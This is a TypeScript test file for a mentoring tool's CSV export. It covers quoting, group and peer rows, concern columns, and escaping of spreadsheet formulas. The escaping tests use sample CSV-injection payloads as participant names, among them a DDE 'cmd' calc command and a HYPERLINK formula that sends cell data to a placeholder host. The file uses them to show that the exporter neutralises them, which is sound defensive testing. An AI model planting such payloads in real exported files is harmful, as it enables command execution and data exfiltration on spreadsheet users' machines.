/**
 * matchesToCsv: one row per pair, peer-group member and unmatched person; quoting that
 * survives names with commas, quotes and line breaks.
 */
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';

import { MATCHES_CSV_COLUMNS, matchesToCsv } from '../../../src/io/csv/write-matches.js';
import { match } from '../../../src/match/match.js';
import { parseParticipants } from '../../../src/profile/parse.js';

const people = parseParticipants([
  { id: 'e1', name: 'Smith, "Jr."\nthe second', roles: 'mentee', skillsWanted: 'python:3' },
  { id: 'e2', name: 'Zoë', roles: 'mentee', skillsWanted: 'sql:2' },
  { id: 'e3', name: 'Łukasz', roles: 'mentee', skillsWanted: 'go' },
  { id: 'm1', name: 'Ana', roles: 'mentor', skillsOffered: 'python:5; sql:4', capacity: 2 },
]);

const rowsOf = (csv: string): Record<string, string>[] => parse(csv, { columns: true, bom: true }) as Record<string, string>[];

describe('matchesToCsv(result, participants)', () => {
  it('pairs and unmatched people, names quoted safely, top reasons with points', () => {
    const result = match(people, { mode: 'capacity' });
    const csv = matchesToCsv(result, people);
    expect(csv.split('\n')[0]).toBe(MATCHES_CSV_COLUMNS.join(','));
    const rows = rowsOf(csv);
    expect(rows.map((r) => [r.status, r.mentee_id, r.mentor_id])).toEqual([
      ['pair', 'e1', 'm1'],
      ['pair', 'e2', 'm1'],
      ['unmatched', 'e3', ''],
    ]);
    expect(rows[0]!.mentee_name).toBe('Smith, "Jr."\nthe second');
    expect(rows[0]!.reasons).toMatch(/^skills \+\d+\.\d: teaches python/);
    expect(Number(rows[0]!.score)).toBeCloseTo(result.pairs[0]!.score, 2);
    expect(rows[2]).toMatchObject({ reason_code: result.unmatched[0]!.reason.code, reasons: result.unmatched[0]!.reason.message });
  });

  it('group mode numbers each mentor\'s group; peer circles list one row per member', () => {
    const g = rowsOf(matchesToCsv(match(people, { mode: 'group', group: { minSize: 1, maxSize: 3 } }), people));
    expect(new Set(g.filter((r) => r.status === 'pair').map((r) => r.group))).toEqual(new Set(['1']));
    const peers = parseParticipants(['a', 'b', 'c', 'd', 'e', 'f', 'g'].map((id) => ({ id, roles: 'peer', interests: 'chess' })));
    const c = rowsOf(matchesToCsv(match(peers, { mode: 'peer', peer: { circleSize: 3 } }), peers));
    expect(c.every((r) => r.status === 'group')).toBe(true);
    expect(c.map((r) => r.mentee_id).sort()).toEqual(['a', 'b', 'c', 'd', 'e', 'f', 'g']);
    expect(new Set(c.map((r) => r.group)).size).toBe(2);
  });

  it('options: delimiter, BOM, number of reasons; names left blank without participants', () => {
    const result = match(people, { mode: 'capacity' });
    const csv = matchesToCsv(result, [], { delimiter: ';', bom: true, topReasons: 1 });
    expect(csv.startsWith('\uFEFFstatus;group;')).toBe(true);
    const rows = parse(csv, { columns: true, bom: true, delimiter: ';' }) as Record<string, string>[];
    expect(rows[0]!.mentee_name).toBe('');
    expect(rows[0]!.reasons.split(' | ')).toHaveLength(1);
  });
});

describe('matchesToCsv(result): essential fit and concerns', () => {
  const berlin = { tz: 'Europe/Berlin' };
  // a fits; b shares no language or time with the mentor and is more senior; c wants go, which Mo does not teach.
  const cohort = parseParticipants([
    { id: 'a', name: 'Ada', roles: 'mentee', skillsWanted: 'python:3', languages: 'English', ...berlin, availability: 'Mon 09:00-10:00', seniority: 2 },
    { id: 'b', name: 'Bo', roles: 'mentee', skillsWanted: 'sql:2', languages: 'French', ...berlin, availability: 'Tue 09:00-10:00', seniority: 5 },
    { id: 'c', name: 'Cy', roles: 'mentee', skillsWanted: 'go', languages: 'English', ...berlin, availability: 'Mon 09:00-10:00', seniority: 1 },
    { id: 'm', name: 'Mo', roles: 'mentor', skillsOffered: 'python:5; sql:4', languages: 'English', ...berlin, availability: 'Mon 09:00-10:00', seniority: 4, capacity: 3 },
  ]);
  const byMentee = (csv: string): Map<string, Record<string, string>> => new Map(rowsOf(csv).map((r) => [r.mentee_id, r]));

  it('puts essential_fit and concerns after locked, and concern_details last', () => {
    expect(MATCHES_CSV_COLUMNS.slice(6)).toEqual(['score', 'locked', 'essential_fit', 'concerns', 'reasons', 'reason_code', 'concern_details']);
  });

  it('pair rows: essential_fit yes/no, the codes joined by "; " in CONCERN_CODES order, the messages joined by " | "', () => {
    const result = match(cohort, { mode: 'capacity' });
    const rows = byMentee(matchesToCsv(result, cohort));
    expect(rows.get('a')).toMatchObject({ status: 'pair', essential_fit: 'yes', concerns: '', concern_details: '' });
    const b = rows.get('b')!;
    expect(b).toMatchObject({ status: 'pair', essential_fit: 'no', concerns: 'no-shared-language; no-common-time; mentor-not-senior' });
    const pairB = result.pairs.find((p) => p.menteeId === 'b')!;
    expect(b.concern_details).toBe(pairB.concerns.map((c) => c.message).join(' | '));
    expect(b.concern_details).toMatch(/^no shared language: Bo speaks french; Mo speaks english \| no common time: /);
    expect(rows.get('c')).toMatchObject({ essential_fit: 'no', concerns: 'no-wanted-skill' });
    expect(rows.get('c')!.concern_details).toContain('Mo teaches none of the skills Cy wants');
  });

  it('unmatched rows leave the three columns empty', () => {
    const rows = byMentee(matchesToCsv(match(cohort, { mode: 'one-to-one' }), cohort));
    const un = [...rows.values()].filter((r) => r.status === 'unmatched');
    expect(un.length).toBeGreaterThan(0);
    for (const r of un) expect([r.essential_fit, r.concerns, r.concern_details]).toEqual(['', '', '']);
  });

  it('group mode: each pair row adds its group\'s concerns, a code only once', () => {
    const result = match(cohort, { mode: 'group', group: { minSize: 1, maxSize: 4 } });
    expect(result.groups.map((g) => g.concerns.map((c) => c.code))).toEqual([['no-common-time']]);
    const group = result.groups[0]!.concerns[0]!.message;
    const rows = byMentee(matchesToCsv(result, cohort));
    expect(rows.get('a')).toMatchObject({ group: '1', essential_fit: 'yes', concerns: 'no-common-time', concern_details: group });
    const b = rows.get('b')!;
    expect(b.concerns).toBe('no-shared-language; no-common-time; mentor-not-senior');
    expect(b.concern_details.split(' | ')).toHaveLength(4);
    expect(b.concern_details.endsWith(` | ${group}`)).toBe(true);
  });

  it('peer pairs are labelled as peers (status peers), not as mentee and mentor', () => {
    const pool = parseParticipants(['a', 'b'].map((id) => ({ id, roles: 'peer', interests: 'chess' })));
    const rows = rowsOf(matchesToCsv(match(pool, { mode: 'peer' }), pool));
    expect(rows.map((r) => r.status)).toEqual(['peers']);
  });

  it('peer-group rows carry the group\'s concerns with essential_fit left empty', () => {
    const pool = parseParticipants(
      ['Mon 09:00-10:00', 'Tue 09:00-10:00', 'Mon 09:00-10:00; Tue 09:00-10:00'].map((availability, k) => ({ id: `p${k + 1}`, roles: 'peer', interests: 'chess', tz: 'Europe/Berlin', availability })),
    );
    const rows = rowsOf(matchesToCsv(match(pool, { mode: 'peer', peer: { circleSize: 3 } }), pool));
    expect(rows).toHaveLength(3);
    for (const r of rows) {
      expect(r).toMatchObject({ status: 'group', essential_fit: '', concerns: 'no-common-time' });
      expect(r.concern_details).toMatch(/^the group has no common time: p1, p2, p3 share not one minute/);
    }
  });
});

describe('matchesToCsv(result, participants, { escapeFormulas })', () => {
  // Names and ids a hostile or careless cohort file may carry: each starts a formula in a spreadsheet.
  const parsed = parseParticipants([
    { id: 'e1', name: '@SUM(1+1)', roles: 'mentee', skillsWanted: 'go:2' },
    { id: 'e2', name: '+1+cmd|\' /C calc\'!A0', roles: 'mentee', skillsWanted: 'go:2' },
    { id: 'e3', name: '-2+3', roles: 'mentee', skillsWanted: 'go:2' },
    { id: '=1+1', name: '\tTab', roles: 'mentee', skillsWanted: 'go:2' },
    { id: 'e5', name: '\rCr', roles: 'mentee', skillsWanted: 'go:2' },
    { id: 'e6', name: '＝1+1', roles: 'mentee', skillsWanted: 'go:2' },
    { id: 'm1', name: '=HYPERLINK("http://x/?"&A1,"x")', roles: 'mentor', skillsOffered: 'go:5', capacity: 6 },
  ]);
  // Profiles trim names; a caller's own objects may still start with a tab or a CR.
  const hostile = parsed.map((p) => (p.id === '=1+1' ? { ...p, name: '\tTab' } : p.id === 'e5' ? { ...p, name: '\rCr' } : p));
  const result = match(hostile, { mode: 'capacity' });

  it('escapes by default: every text cell that starts with = + - @ tab or CR gets a leading quote', () => {
    const rows = rowsOf(matchesToCsv(result, hostile));
    const names = new Map(rows.map((r) => [r.mentee_id, r.mentee_name]));
    expect(names.get('e1')).toBe("'@SUM(1+1)");
    expect(names.get('e2')).toBe("'+1+cmd|' /C calc'!A0");
    expect(names.get('e3')).toBe("'-2+3");
    expect(names.get("'=1+1")).toBe("'\tTab"); // the id is a text cell too
    expect(names.get('e5')).toBe("'\rCr");
    expect(names.get('e6')).toBe("'＝1+1");
    expect(rows.every((r) => r.mentor_name === '\'=HYPERLINK("http://x/?"&A1,"x")')).toBe(true);
    // No cell of the file starts a formula.
    for (const r of rows) for (const v of Object.values(r)) expect(v, v).not.toMatch(/^[=+\-@\t\r＝＋－＠]/u);
  });

  it('leaves number cells as numbers, a negative one included', () => {
    const negative = { ...result, pairs: result.pairs.map((p, k) => (k === 0 ? { ...p, score: -12.5 } : p)) };
    const csv = matchesToCsv(negative, hostile);
    const first = rowsOf(csv)[0]!;
    expect(first.score).toBe('-12.5');
    expect(rowsOf(csv).slice(1).every((r) => r.score === '' || /^\d+(\.\d+)?$/.test(r.score!))).toBe(true);
  });

  it('escapeFormulas: false writes the cells verbatim', () => {
    const rows = rowsOf(matchesToCsv(result, hostile, { escapeFormulas: false }));
    expect(rows.find((r) => r.mentee_id === 'e1')!.mentee_name).toBe('@SUM(1+1)');
    expect(rows[0]!.mentor_name).toBe('=HYPERLINK("http://x/?"&A1,"x")');
  });
});
